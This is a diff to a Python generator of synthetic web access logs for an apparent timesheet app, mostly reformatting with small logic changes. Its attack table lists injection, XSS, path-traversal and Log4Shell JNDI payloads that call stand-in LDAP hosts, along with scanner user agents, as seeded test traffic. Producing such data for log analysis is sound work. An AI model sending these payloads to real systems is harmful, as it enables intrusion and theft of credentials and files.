@@ -69,8 +69,8 @@ _KIND_GROUPS = ("browser", "integration", "crawler", "monitor")
 _CLIENT_KIND_SHARES = (0.84, 0.09, 0.05, 0.02)
 
 # Columns of the pieces matrix of a block; joined row by row they make the lines.
-(_VHOST, _CLIENT, _USER, _TIME, _METHOD, _PATH, _ID, _SUFFIX, _QUERY, _PROTOCOL,
- _STATUS, _BYTES, _REFERRER, _AGENT) = range(14)
+_VHOST, _CLIENT, _USER, _TIME, _METHOD, _PATH, _ID, _SUFFIX, _QUERY = range(9)
+_PROTOCOL, _STATUS, _BYTES, _REFERRER, _AGENT = range(9, 14)
 _COLUMNS = 14
 
 _TRUNCATED, _GARBAGE, _MISSING_FIELDS, _EMPTY = range(4)
@@ -122,6 +122,7 @@ class GeneratedLog:
 
 
 # --- what the application serves -----------------------------------------------------------
+
 
 class _Route(NamedTuple):
     method: str
@@ -176,16 +177,26 @@ _ROUTES = (
 
 _STATUSES = (200, 201, 204, 206, 301, 302, 304, 400, 401, 403, 404, 405, 408, 409, 410, 422, 429, 500, 502, 503, 504)
 _STATUS_PROFILES: dict[str, dict[int, float]] = {
-    "read": {200: 0.915, 304: 0.03, 404: 0.032, 401: 0.012, 403: 0.004, 429: 0.002,
-             500: 0.0025, 502: 0.001, 503: 0.001, 504: 0.0005},
+    "read": {
+        200: 0.915,
+        304: 0.03,
+        404: 0.032,
+        401: 0.012,
+        403: 0.004,
+        429: 0.002,
+        500: 0.0025,
+        502: 0.001,
+        503: 0.001,
+        504: 0.0005,
+    },
     "create": {201: 0.89, 200: 0.02, 400: 0.05, 422: 0.015, 409: 0.008, 401: 0.008, 500: 0.005, 503: 0.004},
     "update": {200: 0.92, 400: 0.03, 409: 0.015, 404: 0.015, 401: 0.01, 500: 0.006, 503: 0.004},
     "delete": {204: 0.93, 404: 0.045, 403: 0.015, 500: 0.01},
     "refresh": {200: 0.9, 401: 0.1},
-    "page": {200: 0.85, 304: 0.12, 302: 0.03},
-    "static": {200: 0.69, 304: 0.3, 206: 0.005, 404: 0.005},
+    "page": {200: 0.87, 304: 0.1, 302: 0.03},
+    "static": {200: 0.74, 304: 0.25, 206: 0.005, 404: 0.005},
     "stale": {404: 0.92, 200: 0.08},
-    "favicon": {200: 0.6, 304: 0.4},
+    "favicon": {200: 0.7, 304: 0.3},
     "login": {302: 0.8, 200: 0.02, 401: 0.14, 403: 0.03, 429: 0.01},
     "redirect": {302: 1.0},
     "root": {302: 0.9, 200: 0.1},
@@ -214,23 +225,44 @@ _AGENTS = (
     _Agent(f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {_CHROME} Safari/537.36", "browser", 12),
     _Agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", "browser", 7),
     _Agent("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", "browser", 2),
-    _Agent("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
-           "Version/18.1 Safari/605.1.15", "browser", 8),
-    _Agent("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
-           "Version/18.1 Mobile/15E148 Safari/604.1", "browser", 9),
-    _Agent("Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
-           "Version/17.6 Mobile/15E148 Safari/604.1", "browser", 2),
+    _Agent(
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+        "Version/18.1 Safari/605.1.15",
+        "browser",
+        8,
+    ),
+    _Agent(
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+        "Version/18.1 Mobile/15E148 Safari/604.1",
+        "browser",
+        9,
+    ),
+    _Agent(
+        "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+        "Version/17.6 Mobile/15E148 Safari/604.1",
+        "browser",
+        2,
+    ),
     _Agent(f"Mozilla/5.0 (Linux; Android 10; K) {_CHROME} Mobile Safari/537.36", "browser", 7),
-    _Agent("Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
-           "SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36", "browser", 2),
+    _Agent(
+        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
+        "browser",
+        2,
+    ),
     _Agent("ExampleTime/4.12.0 (iPhone; iOS 18.1; Scale/3.00)", "browser", 3),
     _Agent("ExampleTime/4.12.0 (Android 14; Pixel 8)", "browser", 2),
     # a corporate proxy that appends a quoted tag, and a device name outside ASCII
-    _Agent(f'Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME} Safari/537.36 \\"Contoso-Proxy/2.1\\"',
-           "browser", 0.4),
-    _Agent(r"Mozilla/5.0 (Linux; Android 13; \xe5\xb0\x8f\xe7\xb1\xb3 12T) AppleWebKit/537.36 (KHTML, like Gecko) "
-           "Chrome/131.0.0.0 Mobile Safari/537.36", "browser", 0.3),
-    _Agent(r'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; \"Caf\xc3\xa9 Kiosk\")', "browser", 0.1),
+    _Agent(
+        f'Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME} Safari/537.36 \\"Contoso-Proxy/2.1\\"', "browser", 0.4
+    ),
+    _Agent(
+        r"Mozilla/5.0 (Linux; Android 13; \xe5\xb0\x8f\xe7\xb1\xb3 12T) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/131.0.0.0 Mobile Safari/537.36",
+        "browser",
+        0.3,
+    ),
+    _Agent(r"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; \"Caf\xc3\xa9 Kiosk\")", "browser", 0.1),
     _Agent("curl/8.5.0", "integration", 2),
     _Agent("python-requests/2.32.3", "integration", 4),
     _Agent("Go-http-client/1.1", "integration", 2),
@@ -268,55 +300,135 @@ class _Attack(NamedTuple):
 
 _SPOOFED_CHROME = _AGENTS[0].text
 _ATTACKS = (
-    _Attack("GET", ("/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/setup-config.php",
-                    "/xmlrpc.php", "/phpmyadmin/index.php", "/server-status", "/actuator/env", "/.aws/credentials",
-                    "/config.json", "/backup.sql", "/.DS_Store", "/owa/auth/logon.aspx",
-                    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale"),
-            ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
-             "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Mozilla/5.0 zgrab/0.x",
-             "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", _SPOOFED_CHROME),
-            "probe", 0.3, 0.7),
-    _Attack("GET", ("/api/v1/timesheets?id=1%27%20OR%201=1--", "/api/v1/projects?page=1%27%20AND%20SLEEP(5)--",
-                    "/api/v1/projects/1%20UNION%20SELECT%20username,password%20FROM%20users--/entries",
-                    "/login?next=%27%3B%20DROP%20TABLE%20users--",
-                    "/api/v1/timesheets?week=2026-W48%27%20AND%201=CONVERT(int,@@version)--",
-                    "/api/v1/users?email=admin%40example.com%27%20OR%20%271%27=%271"),
-            ("sqlmap/1.8.11#stable (https://sqlmap.org)",),
-            "injection", 0.15, 0.05),
-    _Attack("GET", ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
-                    "/app/projects?name=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
-                    "/login?next=javascript:alert(1)", "/api/v1/projects?sort=%22%3E%3Csvg/onload=alert(1)%3E",
-                    '/search?q=\\"><script>alert(1)</script>'),
-            ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", _SPOOFED_CHROME),
-            "injection", 0.1, 0.05),
-    _Attack("GET", ("/../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd",
-                    "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/api/v1/reports/hours?file=../../../../etc/passwd",
-                    "/static/....//....//....//etc/shadow", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
-                    "/..%5c..%5c..%5cwindows%5cwin.ini"),
-            ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)", "curl/8.5.0", _SPOOFED_CHROME),
-            "traversal", 0.1, 0.1),
-    _Attack("GET", ("/", "/login", "/api/v1/me", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D"),
-            ("${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}",
-             "${${lower:j}ndi:${lower:l}dap://198.51.100.201:1389/a}"),
-            "jndi", 0.1, 0.1),
-    _Attack("POST", ("/login", "/api/v1/auth/login"),
-            ("python-requests/2.32.3", "Mozilla/4.0 (Hydra)", _SPOOFED_CHROME),
-            "guessing", 0.25, 0.0),
+    _Attack(
+        "GET",
+        (
+            "/.env",
+            "/.git/config",
+            "/.git/HEAD",
+            "/wp-login.php",
+            "/wp-admin/setup-config.php",
+            "/xmlrpc.php",
+            "/phpmyadmin/index.php",
+            "/server-status",
+            "/actuator/env",
+            "/.aws/credentials",
+            "/config.json",
+            "/backup.sql",
+            "/.DS_Store",
+            "/owa/auth/logon.aspx",
+            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+            "/cgi-bin/luci/;stok=/locale",
+        ),
+        (
+            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
+            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+            "Mozilla/5.0 zgrab/0.x",
+            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+            _SPOOFED_CHROME,
+        ),
+        "probe",
+        0.3,
+        0.7,
+    ),
+    _Attack(
+        "GET",
+        (
+            "/api/v1/timesheets?id=1%27%20OR%201=1--",
+            "/api/v1/projects?page=1%27%20AND%20SLEEP(5)--",
+            "/api/v1/projects/1%20UNION%20SELECT%20username,password%20FROM%20users--/entries",
+            "/login?next=%27%3B%20DROP%20TABLE%20users--",
+            "/api/v1/timesheets?week=2026-W48%27%20AND%201=CONVERT(int,@@version)--",
+            "/api/v1/users?email=admin%40example.com%27%20OR%20%271%27=%271",
+        ),
+        ("sqlmap/1.8.11#stable (https://sqlmap.org)",),
+        "injection",
+        0.15,
+        0.05,
+    ),
+    _Attack(
+        "GET",
+        (
+            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+            "/app/projects?name=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
+            "/login?next=javascript:alert(1)",
+            "/api/v1/projects?sort=%22%3E%3Csvg/onload=alert(1)%3E",
+            '/search?q=\\"><script>alert(1)</script>',
+        ),
+        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", _SPOOFED_CHROME),
+        "injection",
+        0.1,
+        0.05,
+    ),
+    _Attack(
+        "GET",
+        (
+            "/../../etc/passwd",
+            "/static/..%2f..%2f..%2fetc%2fpasswd",
+            "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+            "/api/v1/reports/hours?file=../../../../etc/passwd",
+            "/static/....//....//....//etc/shadow",
+            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
+            "/..%5c..%5c..%5cwindows%5cwin.ini",
+        ),
+        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)", "curl/8.5.0", _SPOOFED_CHROME),
+        "traversal",
+        0.1,
+        0.1,
+    ),
+    _Attack(
+        "GET",
+        ("/", "/login", "/api/v1/me", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D"),
+        (
+            "${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}",
+            "${${lower:j}ndi:${lower:l}dap://198.51.100.201:1389/a}",
+        ),
+        "jndi",
+        0.1,
+        0.1,
+    ),
+    _Attack(
+        "POST",
+        ("/login", "/api/v1/auth/login"),
+        ("python-requests/2.32.3", "Mozilla/4.0 (Hydra)", _SPOOFED_CHROME),
+        "guessing",
+        0.25,
+        0.0,
+    ),
 )
 
 _SERVICE_ACCOUNTS = ("svc-payroll", "svc-exact-sync", "api-afas", "export-bot", "p.bakker@example.com")
-_PEOPLE = ("jan.jansen", "sanne.devries", "pieter.bakker", "anouk.visser", "daan.smit", "emma.meijer",
-           "lucas.deboer", "julia.mulder", "sem.degroot", "tess.bos", "finn.vos", "lotte.peters",
-           "noah.hendriks", "fleur.vandijk", "milan.dekker", "sophie.vanleeuwen", "j.de.vries", "m.el-amrani")
+_PEOPLE = (
+    "jan.jansen",
+    "sanne.devries",
+    "pieter.bakker",
+    "anouk.visser",
+    "daan.smit",
+    "emma.meijer",
+    "lucas.deboer",
+    "julia.mulder",
+    "sem.degroot",
+    "tess.bos",
+    "finn.vos",
+    "lotte.peters",
+    "noah.hendriks",
+    "fleur.vandijk",
+    "milan.dekker",
+    "sophie.vanleeuwen",
+    "j.de.vries",
+    "m.el-amrani",
+)
 _MAIL_DOMAINS = ("example.com", "example.com", "example.org", "example.net")
 _APP_PAGES = ("timesheets", "projects", "reports", "dashboard", "settings", "approvals", "timesheets/week")
 
 # Requests per hour of local (Amsterdam) time, relative: people register hours in office
 # hours, with a dip at lunch and a small evening catch-up; weekends are quiet and flat.
-_WORKDAY_RATE = (0.6, 0.4, 0.3, 0.3, 0.35, 0.6, 1.5, 4, 8, 10, 10, 9.5,
-                 7, 8.5, 9.5, 9.5, 9, 6, 3, 2.2, 2.5, 2.2, 1.5, 1)
+# fmt: off
+_WORKDAY_RATE = (0.6, 0.4, 0.3, 0.3, 0.35, 0.6, 1.5, 4, 8, 10, 10, 9.5,  # 00:00-11:59
+                 7, 8.5, 9.5, 9.5, 9, 6, 3, 2.2, 2.5, 2.2, 1.5, 1)  # 12:00-23:59
 _WEEKEND_RATE = (0.6, 0.4, 0.3, 0.3, 0.3, 0.4, 0.6, 1, 1.5, 2, 2.2, 2.2,
                  2, 2, 2, 2, 1.8, 1.6, 1.5, 1.6, 2, 2, 1.4, 0.9)
+# fmt: on
 
 _V4_NETWORKS = ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")
 _V6_DOCUMENTATION = 0x20010DB8 << 96
@@ -324,6 +436,7 @@ _V6_SITES = 300
 
 
 # --- pools of pre-formatted pieces ---------------------------------------------------------
+
 
 def _objects(items: Sequence[bytes]) -> np.ndarray:
     array = np.empty(len(items), dtype=object)
@@ -339,7 +452,7 @@ def _cumulative(weights: Sequence[float] | np.ndarray) -> np.ndarray:
     """
     weights = np.asarray(weights, dtype=float)
     cum = np.cumsum(weights) / weights.sum()
-    cum[np.flatnonzero(weights)[-1]:] = 1.0
+    cum[np.flatnonzero(weights)[-1] :] = 1.0
     return cum
 
 
@@ -409,13 +522,29 @@ def _query_pools(rng: np.random.Generator, day: datetime.date, emails: list[str]
     addresses = ("192.0.2.44", "198.51.100.7", "203.0.113.201", "2001:db8:4a1f:7c::3e1", "2001:db8:c0de::17")
     return {
         "week": _Pool(week_items, week_weights),
-        "page": _Pool([b"", b"?page=2", b"?page=3", b"?page=1&per_page=100", b"?sort=name", b"?archived=true"],
-                      (60, 12, 4, 10, 10, 4)),
+        "page": _Pool(
+            [b"", b"?page=2", b"?page=3", b"?page=1&per_page=100", b"?sort=name", b"?archived=true"],
+            (60, 12, 4, 10, 10, 4),
+        ),
         "unread": _Pool([b"", b"?unread=true", b"?limit=20", b"?unread=true&limit=50"], (5, 3, 1, 1)),
-        "report": _Pool([f"?{span}&format=csv".encode(), f"?{span}&format=xlsx".encode(),
-                         f"?{span}&project=117&format=pdf".encode()], (5, 3, 1)),
-        "next": _Pool([b"", b"?next=%2Fapp%2Ftimesheets", f"?next=%2Fapp%2Ftimesheets%3Fweek%3D{weeks[0]}".encode(),
-                       b"?expired=1", b"?lang=nl"], (80, 6, 5, 6, 3)),
+        "report": _Pool(
+            [
+                f"?{span}&format=csv".encode(),
+                f"?{span}&format=xlsx".encode(),
+                f"?{span}&project=117&format=pdf".encode(),
+            ],
+            (5, 3, 1),
+        ),
+        "next": _Pool(
+            [
+                b"",
+                b"?next=%2Fapp%2Ftimesheets",
+                f"?next=%2Fapp%2Ftimesheets%3Fweek%3D{weeks[0]}".encode(),
+                b"?expired=1",
+                b"?lang=nl",
+            ],
+            (80, 6, 5, 6, 3),
+        ),
         "email": _Pool([f"?email={e}".encode() for e in encoded + emails]),
         "reset": _Pool([f"?token={t}&email={encoded[i % len(encoded)]}".encode() for i, t in enumerate(tokens)]),
         "token": _Pool([f"?token={t}".encode() for t in tokens + jwts]),
@@ -427,25 +556,52 @@ def _referrer_pools(rng: np.random.Generator, day: datetime.date, emails: list[s
     app = "https://app.example.com"
     pools: dict[str, list[tuple[str, float]]] = {
         "none": [("-", 1)],
-        "app": [(f"{app}/app/timesheets", 5), (f"{app}/app/timesheets?week={_iso_week(day)}", 3),
-                (f"{app}/app/projects", 3), (f"{app}/app/projects/117", 1), (f"{app}/app/projects/42", 1),
-                (f"{app}/app/reports", 1), (f"{app}/app/dashboard", 3), (f"{app}/app/settings", 0.5), ("-", 1.5),
-                (f"{app}/app/users/{emails[0]}", 0.1),
-                (f"{app}/reset-password?token={_hex(rng, 32)}&email={emails[1].replace('@', '%40')}", 0.05)],
-        "entry": [("-", 50), ("https://www.google.com/", 20), ("https://www.google.nl/", 8),
-                  ("https://www.bing.com/", 4), ("https://duckduckgo.com/", 3), ("https://www.example.com/", 8),
-                  (f"{app}/app/dashboard", 7), (f"{app}/login", 5)],
-        "asset": [(f"{app}/app/timesheets", 5), (f"{app}/app/dashboard", 3), (f"{app}/login", 3),
-                  (f"{app}/app/projects", 2), ("-", 0.5)],
-        "mail": [("-", 70), ("https://outlook.office.com/", 12), ("https://mail.google.com/", 10),
-                 ("https://teams.microsoft.com/", 3)],
+        "app": [
+            (f"{app}/app/timesheets", 5),
+            (f"{app}/app/timesheets?week={_iso_week(day)}", 3),
+            (f"{app}/app/projects", 3),
+            (f"{app}/app/projects/117", 1),
+            (f"{app}/app/projects/42", 1),
+            (f"{app}/app/reports", 1),
+            (f"{app}/app/dashboard", 3),
+            (f"{app}/app/settings", 0.5),
+            ("-", 1.5),
+            (f"{app}/app/users/{emails[0]}", 0.1),
+            (f"{app}/reset-password?token={_hex(rng, 32)}&email={emails[1].replace('@', '%40')}", 0.05),
+        ],
+        "entry": [
+            ("-", 50),
+            ("https://www.google.com/", 20),
+            ("https://www.google.nl/", 8),
+            ("https://www.bing.com/", 4),
+            ("https://duckduckgo.com/", 3),
+            ("https://www.example.com/", 8),
+            (f"{app}/app/dashboard", 7),
+            (f"{app}/login", 5),
+        ],
+        "asset": [
+            (f"{app}/app/timesheets", 5),
+            (f"{app}/app/dashboard", 3),
+            (f"{app}/login", 3),
+            (f"{app}/app/projects", 2),
+            ("-", 0.5),
+        ],
+        "mail": [
+            ("-", 70),
+            ("https://outlook.office.com/", 12),
+            ("https://mail.google.com/", 10),
+            ("https://teams.microsoft.com/", 3),
+        ],
         "login": [(f"{app}/login", 9), (f"{app}/login?next=%2Fapp%2Ftimesheets", 1)],
     }
-    return {name: _Pool([f' "{text}" "'.encode() for text, _ in items], [w for _, w in items])
-            for name, items in pools.items()}
+    return {
+        name: _Pool([f' "{text}" "'.encode() for text, _ in items], [w for _, w in items])
+        for name, items in pools.items()
+    }
 
 
 # --- clients -------------------------------------------------------------------------------
+
 
 class _Clients(NamedTuple):
     text: np.ndarray  # b"203.0.113.7"
@@ -466,8 +622,11 @@ def _interface_ids(rng: np.random.Generator, n: int) -> list[int]:
     random = rng.integers(0, 1 << 64, size=n, dtype=np.uint64)  # privacy extensions, rotated daily
     mac = rng.integers(0, 1 << 48, size=n, dtype=np.uint64)
     # EUI-64 from a MAC address: ff:fe in the middle, universal/local bit flipped
-    eui64 = ((mac >> np.uint64(24)) ^ np.uint64(0x020000)) << np.uint64(40) | np.uint64(0xFFFE << 24) \
+    eui64 = (
+        ((mac >> np.uint64(24)) ^ np.uint64(0x020000)) << np.uint64(40)
+        | np.uint64(0xFFFE << 24)
         | (mac & np.uint64(0xFFFFFF))
+    )
     by_hand = rng.integers(1, 0x30, size=n, dtype=np.uint64)  # servers and gateways: ::1, ::2f
     draw = rng.random(n)
     return np.where(draw < 0.8, random, np.where(draw < 0.9, eui64, by_hand)).tolist()
@@ -498,7 +657,9 @@ def _hostnames(rng: np.random.Generator) -> list[str]:
     return [ordered[i] for i in rng.permutation(len(ordered))]
 
 
-def _build_clients(rng: np.random.Generator) -> _Clients:
+@functools.lru_cache(maxsize=4)  # the same clients serve every log of a seed
+def _clients_of(seed: int) -> _Clients:
+    rng = np.random.default_rng([seed, 2])
     v4 = _ipv4_addresses(rng)
     families = [v4, _ipv6_addresses(rng), [f"::ffff:{a}" for a in v4[:200]], _hostnames(rng)]
     texts = [t.encode() for family in families for t in family]
@@ -511,16 +672,28 @@ def _build_clients(rng: np.random.Generator) -> _Clients:
         agent[kind == k] = np.array(members)[_pick(cum, rng, int((kind == k).sum()))]
     authenticated = (kind == _INTEGRATION) & (rng.random(n) < 0.35)
     users = np.full(n, b" - - [", dtype=object)
-    users[authenticated] = [f" - {_SERVICE_ACCOUNTS[i]} [".encode()
-                            for i in rng.integers(len(_SERVICE_ACCOUNTS), size=int(authenticated.sum()))]
+    users[authenticated] = [
+        f" - {_SERVICE_ACCOUNTS[i]} [".encode()
+        for i in rng.integers(len(_SERVICE_ACCOUNTS), size=int(authenticated.sum()))
+    ]
     http2 = (kind == _BROWSER) & (rng.random(n) < 0.4)
     protocol = np.where(http2, b" HTTP/2.0", b" HTTP/1.1").astype(object)
     starts = np.cumsum([0] + [len(f) for f in families[:-1]])
-    return _Clients(_objects(texts), kind, users, agent, protocol,
-                    [(int(s), _cumulative(_zipf(len(f)))) for s, f in zip(starts, families, strict=True)])
+    clients = _Clients(
+        _objects(texts),
+        kind,
+        users,
+        agent,
+        protocol,
+        [(int(s), _cumulative(_zipf(len(f)))) for s, f in zip(starts, families, strict=True)],
+    )
+    for array in (*clients[:5], *(cum for _, cum in clients.families)):
+        array.flags.writeable = False  # shared between logs through the cache
+    return clients
 
 
 # --- time ----------------------------------------------------------------------------------
+
 
 def _second_weights(spec: LogSpec, rng: np.random.Generator) -> np.ndarray:
     """Relative request rate in each UTC second of the day, following Amsterdam's working day."""
@@ -550,18 +723,23 @@ def _timestamps(day: datetime.date, utc_offset_minutes: int) -> np.ndarray:
     """b'24/Nov/2026:10:15:02 +0100] "' for each UTC second of the day, formatted once."""
     offset = utc_offset_minutes * 60
     suffix = f' {_clf_offset(utc_offset_minutes)}] "'.encode()
-    prefixes = {}
-    for shift in (-1, 0, 1):
+    minutes = [f"{h:02d}:{m:02d}:".encode() for h in range(24) for m in range(60)]
+    clock = [minute + b"%02d" % s for minute in minutes for s in range(60)]
+
+    def date(shift: int) -> bytes:
         local = day + datetime.timedelta(days=shift)
-        prefixes[shift] = f"{local.day:02d}/{_MONTHS[local.month - 1]}/{local.year}:".encode()
-    clock = [f"{h:02d}:{m:02d}:{s:02d}".encode() for h in range(24) for m in range(60) for s in range(60)]
-    stamps = _objects([prefixes[(s + offset) // _SECONDS_PER_DAY] + clock[(s + offset) % _SECONDS_PER_DAY] + suffix
-                       for s in range(_SECONDS_PER_DAY)])
+        return f"{local.day:02d}/{_MONTHS[local.month - 1]}/{local.year}:".encode()
+
+    # the UTC day starts at local clock[midnight] and crosses local midnight once
+    first_date, midnight = divmod(offset, _SECONDS_PER_DAY)
+    before, after = date(first_date), date(first_date + 1)
+    stamps = _objects([before + c + suffix for c in clock[midnight:]] + [after + c + suffix for c in clock[:midnight]])
     stamps.flags.writeable = False  # shared between logs through the cache
     return stamps
 
 
 # --- the plan of a whole log, drawn once from the seed -------------------------------------
+
 
 class _Plan(NamedTuple):
     spec: LogSpec
@@ -579,17 +757,25 @@ class _Plan(NamedTuple):
     broken_kind: np.ndarray
 
 
-def _plan_attacks(spec: LogSpec, rng: np.random.Generator, clients: _Clients,
-                  line_second_end: np.ndarray) -> tuple[np.ndarray, ...]:
+def _plan_attacks(
+    spec: LogSpec, rng: np.random.Generator, clients: _Clients, line_second_end: np.ndarray
+) -> tuple[np.ndarray, ...]:
     """Line numbers, kinds, clients and agents of the attack probes."""
     n = spec.lines
     burst_target = round(n * spec.attack_share * _ATTACK_BURST_SHARE)
     single_target = round(n * spec.attack_share) - burst_target
     v4_end = clients.families[1][0]
-    attackers = _objects([clients.text[i] for i in rng.choice(v4_end, size=_ATTACKERS - 2, replace=False)]
-                         + [ipaddress.IPv6Address(_V6_DOCUMENTATION | int(rng.integers(1 << 16)) << 80
-                                                  | int(rng.integers(1, 1 << 16))).compressed.encode()
-                            for _ in range(2)])
+    # from the quiet half of the v4 clients (ordered by popularity), not a big customer's office
+    quiet = v4_end // 2 + rng.choice(v4_end - v4_end // 2, size=_ATTACKERS - 2, replace=False)
+    attackers = _objects(
+        [clients.text[i] for i in quiet]
+        + [
+            ipaddress.IPv6Address(
+                _V6_DOCUMENTATION | int(rng.integers(1 << 16)) << 80 | int(rng.integers(1, 1 << 16))
+            ).compressed.encode()
+            for _ in range(2)
+        ]
+    )
     burst_cum = _cumulative([a.burst_weight for a in _ATTACKS])
     single_cum = _cumulative([a.single_weight for a in _ATTACKS])
     lines, kinds, texts, agents = [], [], [], []
@@ -612,8 +798,12 @@ def _plan_attacks(spec: LogSpec, rng: np.random.Generator, clients: _Clients,
         # anyone on the internet: any v4 or v6 client, popular or not
         v6_end = clients.families[2][0]
         texts.append(clients.text[rng.integers(v6_end, size=single_target)])
-        agents.append(np.array([_AGENT_INDEX[_ATTACKS[k].agents[rng.integers(len(_ATTACKS[k].agents))]]
-                                for k in kind.tolist()], dtype=np.int64))
+        agents.append(
+            np.array(
+                [_AGENT_INDEX[_ATTACKS[k].agents[rng.integers(len(_ATTACKS[k].agents))]] for k in kind.tolist()],
+                dtype=np.int64,
+            )
+        )
     if not lines:
         return np.empty(0, np.int64), np.empty(0, np.int64), np.empty(0, object), np.empty(0, np.int64)
     line = np.concatenate(lines)
@@ -623,7 +813,7 @@ def _plan_attacks(spec: LogSpec, rng: np.random.Generator, clients: _Clients,
 
 def _plan(spec: LogSpec) -> _Plan:
     rng = np.random.default_rng([spec.seed, 0])
-    clients = _build_clients(rng)
+    clients = _clients_of(spec.seed)
     weights = _second_weights(spec, rng)
     line_second_end = np.cumsum(rng.multinomial(spec.lines, weights / weights.sum()))
     emails = _emails(rng)
@@ -631,12 +821,22 @@ def _plan(spec: LogSpec) -> _Plan:
     broken = spec.broken_lines
     broken_at = np.sort(rng.choice(spec.lines, size=broken, replace=False)) if broken else np.empty(0, np.int64)
     broken_kind = rng.permutation(np.arange(broken) % 4)  # an even mix of the four kinds
-    return _Plan(spec, clients, line_second_end, _timestamps(spec.day, spec.utc_offset_minutes), _id_pools(rng, emails),
-                 _query_pools(rng, spec.day, emails), _referrer_pools(rng, spec.day, emails),
-                 *attacks, broken_at, broken_kind)
+    return _Plan(
+        spec,
+        clients,
+        line_second_end,
+        _timestamps(spec.day, spec.utc_offset_minutes),
+        _id_pools(rng, emails),
+        _query_pools(rng, spec.day, emails),
+        _referrer_pools(rng, spec.day, emails),
+        *attacks,
+        broken_at,
+        broken_kind,
+    )
 
 
 # --- rendering a block of lines ------------------------------------------------------------
+
 
 def _status_cumulative(profiles: list[str]) -> np.ndarray:
     return np.array([_cumulative([_STATUS_PROFILES[p].get(code, 0.0) for code in _STATUSES]) for p in profiles])
@@ -675,8 +875,9 @@ _STATUS_CODE = np.array(_STATUSES)
 _AGENT_TEXT = _objects([f'{a.text}"\n'.encode() for a in _AGENTS])
 _BROWSER_AGENT_INDEX = np.array([i for i, a in enumerate(_AGENTS) if a.group == "browser"])
 _BROWSER_AGENT_CUM = _cumulative([_AGENTS[i].weight for i in _BROWSER_AGENT_INDEX])
-_VHOST_OF_KIND = _objects([b"app.example.com:443 ", b"api.example.com:443 ", b"app.example.com:443 ",
-                           b"app.example.com:443 "])
+_VHOST_OF_KIND = _objects(
+    [b"app.example.com:443 ", b"api.example.com:443 ", b"app.example.com:443 ", b"app.example.com:443 "]
+)
 # bytes texts for sizes below this are formatted once; larger ones are rare (static files)
 _SMALL_SIZES = 1 << 16
 _SIZE_TEXT = _objects([b"-"] + [b"%d" % v for v in range(1, _SMALL_SIZES)])
@@ -708,11 +909,11 @@ def _broken_line(rng: np.random.Generator, row: np.ndarray, kind: int) -> bytes:
         return b"\n"
     if kind == _TRUNCATED:  # the writer died mid-line
         start = len(b"".join(row[:_METHOD]))
-        length = len(b"".join(row[_METHOD:_PROTOCOL + 1]))
-        return b"".join(row)[:start + int(rng.integers(length))] + b"\n"
+        length = len(b"".join(row[_METHOD : _PROTOCOL + 1]))
+        return b"".join(row)[: start + int(rng.integers(length))] + b"\n"
     if kind == _MISSING_FIELDS:
         if rng.random() < 0.5:  # ends after the status
-            return b"".join(row[:_STATUS + 1]).rstrip() + b"\n"
+            return b"".join(row[: _STATUS + 1]).rstrip() + b"\n"
         return b"".join([*row[:_USER], b" - - ", b'"', *row[_METHOD:]])  # no time field
